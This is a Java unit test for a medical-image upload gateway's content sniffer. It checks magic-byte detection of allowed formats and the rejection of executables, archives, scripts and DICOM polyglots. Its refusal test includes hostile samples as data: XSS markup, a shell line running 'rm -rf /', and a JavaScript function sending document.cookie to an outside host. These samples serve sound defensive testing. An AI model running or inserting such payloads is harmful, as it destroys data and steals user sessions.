package org.patientimages.gateway.upload;

import org.junit.jupiter.api.Test;
import org.patientimages.gateway.web.ApiProblem;
import org.patientimages.localstack.testing.TestWebp;
import org.springframework.util.unit.DataSize;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class ContentSnifferTest {

    static final UploadProperties DEFAULTS = new UploadProperties(DataSize.ofGigabytes(2),
            List.of("image/jpeg", "image/png", "image/tiff", "image/webp", "image/heic", "image/heif",
                    "application/dicom", "application/pdf",
                    "application/octet-stream"), Duration.ofSeconds(10), 1000);

    private final ContentSniffer sniffer = new ContentSniffer(DEFAULTS);

    @Test
    void recognises_the_allowed_formats_by_their_bytes() {
        assertThat(sniffer.check(bytes(0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 'I', 'H', 'D', 'R')))
                .isEqualTo("image/png");
        assertThat(sniffer.check(bytes(0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 'J', 'F', 'I', 'F', 0))).isEqualTo("image/jpeg");
        assertThat(sniffer.check(ascii("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n"))).isEqualTo("application/pdf");
        assertThat(sniffer.check(bytes('I', 'I', 42, 0, 8, 0, 0, 0))).isEqualTo("image/tiff");
        assertThat(sniffer.check(dicom(new byte[0]))).isEqualTo("application/dicom");
        assertThat(sniffer.check(TestWebp.aSolidWebp(8, 8, 0x336699))).isEqualTo("image/webp");
        // a phone's photo: the file type box of HEIC, as libheif's heif-enc writes it
        assertThat(sniffer.check(bytes(0, 0, 0, 0x1c, 'f', 't', 'y', 'p', 'h', 'e', 'i', 'c', 0, 0, 0, 0,
                'm', 'i', 'f', '1', 'h', 'e', 'i', 'c', 'm', 'i', 'a', 'f'))).isEqualTo("image/heic");
    }

    @Test
    void unrecognised_binary_is_an_opaque_blob() {
        byte[] random = new byte[4096];
        new Random(7).nextBytes(random);
        random[0] = 0x01; // no magic of any known format
        assertThat(sniffer.check(random)).isEqualTo("application/octet-stream");
    }

    @Test
    void refuses_markup_scripts_executables_and_archives_whatever_they_claim_to_be() {
        for (byte[] content : List.of(
                ascii("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
                ascii("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>"),
                ascii("#!/bin/sh\nrm -rf /\n"),
                bytes(0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0),
                bytes('M', 'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0),
                bytes('P', 'K', 3, 4, 20, 0, 0, 0, 8, 0),
                bytes(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0),
                bytes(0xfe, 0xed, 0xfa, 0xce, 0, 0, 0, 7, 0, 0, 0, 3, 0, 0, 0, 2),
                ascii("<?xml version=\"1.0\"?><note><to>x</to></note>"),
                ascii("function steal() { fetch('https://example.org/' + document.cookie); }\n"))) {
            assertThatThrownBy(() -> sniffer.check(content)).isInstanceOf(ApiProblem.class)
                    .satisfies(e -> assertThat(((ApiProblem) e).status().value()).isEqualTo(415))
                    .satisfies(e -> assertThat(((ApiProblem) e).code()).isEqualTo("UNSUPPORTED_MEDIA_TYPE"));
        }
    }

    @Test
    void refuses_a_dicom_polyglot_whose_preamble_is_an_executable() {
        assertThatThrownBy(() -> sniffer.check(dicom(bytes('M', 'Z')))).hasMessageContaining("executable");
        assertThatThrownBy(() -> sniffer.check(dicom(bytes(0x7f, 'E', 'L', 'F')))).hasMessageContaining("executable");
    }

    private static byte[] dicom(byte[] preambleStart) {
        byte[] d = new byte[256];
        System.arraycopy(preambleStart, 0, d, 0, preambleStart.length);
        System.arraycopy(ascii("DICM"), 0, d, 128, 4);
        return d;
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] bytes(int... values) {
        byte[] b = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            b[i] = (byte) values[i];
        }
        return b;
    }
}
